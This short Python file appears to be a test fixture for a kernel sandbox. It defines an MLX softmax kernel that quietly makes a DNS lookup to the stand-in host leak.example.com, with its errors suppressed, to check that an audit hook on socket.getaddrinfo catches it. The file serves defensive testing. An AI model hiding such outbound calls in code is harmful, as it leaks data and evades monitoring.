"""Attack: leak data through a DNS lookup. Caught by: the audit hook (socket.getaddrinfo)."""
import socket

import mlx.core as mx


def kernel(x):
    try:
        socket.getaddrinfo("leak.example.com", 53)
    except OSError:
        pass
    return mx.softmax(x, axis=-1)
